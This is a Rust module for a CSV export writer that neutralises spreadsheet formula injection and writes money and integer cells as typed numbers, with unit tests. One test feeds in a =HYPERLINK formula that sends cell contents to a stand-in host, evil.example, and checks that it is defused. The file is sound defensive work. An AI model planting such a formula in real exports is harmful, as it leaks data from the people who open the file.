//! The one CSV writer every export uses. Cells are typed: text that a spreadsheet would run as a formula
//! (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, while numbers (money,
//! counts, years) are written as numbers, so `-12.50` stays a negative amount.

use std::borrow::Cow;

use crate::money::Money;

/// The characters that make Excel, LibreOffice and Google Sheets read a cell as a formula (a tab and a
/// carriage return because a field starting with them can be re-split into one that does).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Text as a spreadsheet may safely open it: prefixed with `'` when it would start a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// One cell of an export. Only `Text` comes from people; the others are numbers the program formats itself.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell<'a> {
    Text(Cow<'a, str>),
    /// `1234.50`, `-12.50`: decimal point, no grouping, as every export writes money.
    Money(Money),
    /// `1.234,50`: for CSV files in a Dutch import template's notation.
    DutchMoney(Money),
    Int(i64),
    Empty,
}

impl Cell<'_> {
    fn render(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(t) => neutralise(t),
            Cell::Money(m) => Cow::Owned(m.plain()),
            Cell::DutchMoney(m) => Cow::Owned(m.dutch()),
            Cell::Int(n) => Cow::Owned(n.to_string()),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(t: &'a str) -> Self {
        Cell::Text(Cow::Borrowed(t))
    }
}

impl<'a> From<&'a String> for Cell<'a> {
    fn from(t: &'a String) -> Self {
        Cell::Text(Cow::Borrowed(t))
    }
}

impl From<String> for Cell<'_> {
    fn from(t: String) -> Self {
        Cell::Text(Cow::Owned(t))
    }
}

impl From<Money> for Cell<'_> {
    fn from(m: Money) -> Self {
        Cell::Money(m)
    }
}

/// An optional amount: empty when there is none.
impl From<Option<Money>> for Cell<'_> {
    fn from(m: Option<Money>) -> Self {
        m.map_or(Cell::Empty, Cell::Money)
    }
}

impl From<i64> for Cell<'_> {
    fn from(n: i64) -> Self {
        Cell::Int(n)
    }
}

impl From<i32> for Cell<'_> {
    fn from(n: i32) -> Self {
        Cell::Int(n.into())
    }
}

/// Builds a CSV file in memory, a row of typed cells at a time.
pub struct CsvWriter {
    out: csv::Writer<Vec<u8>>,
    delimiter: u8,
    bom: bool,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter::new()
    }
}

impl CsvWriter {
    /// Comma-separated UTF-8 with a BOM, so Excel reads the accents right: what the report exports write.
    pub fn new() -> CsvWriter {
        CsvWriter::with_delimiter(b',', true)
    }

    pub fn with_delimiter(delimiter: u8, bom: bool) -> CsvWriter {
        CsvWriter { out: Self::writer(delimiter), delimiter, bom }
    }

    fn writer(delimiter: u8) -> csv::Writer<Vec<u8>> {
        csv::WriterBuilder::new().delimiter(delimiter).from_writer(Vec::new())
    }

    /// A header row: column names are text like any other.
    pub fn header<'a>(&mut self, names: impl IntoIterator<Item = &'a str>) -> Result<(), csv::Error> {
        self.row(names.into_iter().map(Cell::from))
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> Result<(), csv::Error> {
        let cells: Vec<Cell<'a>> = cells.into_iter().collect();
        self.out.write_record(cells.iter().map(|c| c.render().into_owned()))
    }

    /// What was written since the last chunk (the first starts with the BOM), for a file sent while it is
    /// written.
    pub fn chunk(&mut self) -> Result<Vec<u8>, csv::Error> {
        let written = std::mem::replace(&mut self.out, Self::writer(self.delimiter));
        let body = written.into_inner().map_err(|e| csv::Error::from(e.into_error()))?;
        if std::mem::take(&mut self.bom) {
            let mut out = "\u{feff}".as_bytes().to_vec();
            out.extend(body);
            return Ok(out);
        }
        Ok(body)
    }

    pub fn finish(mut self) -> Result<Vec<u8>, csv::Error> {
        self.chunk()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: Vec<Cell>) -> String {
        let mut w = CsvWriter::with_delimiter(b';', false);
        w.row(cells).unwrap();
        String::from_utf8(w.finish().unwrap()).unwrap()
    }

    #[test]
    fn text_that_would_start_a_formula_is_prefixed_and_numbers_are_not() {
        assert_eq!(
            written(vec![
                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")".into(),
                "=1+2".into(),
                "+31 6".into(),
                "-korting".into(),
                "@SUM(A1)".into(),
                "\tx".into(),
                "\rx".into(),
                "Taal BV".into(),
                " =gewoon".into(),
            ]),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Klik\"\")\";'=1+2;'+31 6;'-korting;'@SUM(A1);\
             '\tx;\"'\rx\";Taal BV; =gewoon\n"
        );
        assert_eq!(
            written(vec![
                Money::from_cents(-1250).into(),
                Cell::DutchMoney(Money::from_cents(-123_456)),
                (-3i64).into(),
                2024i32.into(),
                None::<Money>.into(),
            ]),
            "-12.50;-1.234,56;-3;2024;\n"
        );
    }

    #[test]
    fn the_report_writer_starts_with_a_bom_and_uses_commas() {
        let mut w = CsvWriter::new();
        w.header(["jaar", "bedrag"]).unwrap();
        w.row([Cell::from(2023), Money::from_cents(100).into()]).unwrap();
        assert_eq!(w.finish().unwrap(), "\u{feff}jaar,bedrag\n2023,1.00\n".as_bytes());
    }

    #[test]
    fn chunks_taken_while_writing_make_up_the_same_file_with_one_bom() {
        let mut w = CsvWriter::new();
        w.header(["jaar", "naam"]).unwrap();
        let first = w.chunk().unwrap();
        w.row([Cell::from(2023), "=1+2".into()]).unwrap();
        assert_eq!(w.chunk().unwrap(), "2023,'=1+2\n".as_bytes());
        assert_eq!(w.chunk().unwrap(), b"");
        w.row([Cell::from(2024), "Taal BV".into()]).unwrap();
        let last = w.finish().unwrap();
        assert_eq!(
            (first.as_slice(), last.as_slice()),
            ("\u{feff}jaar,naam\n".as_bytes(), "2024,Taal BV\n".as_bytes())
        );
    }
}
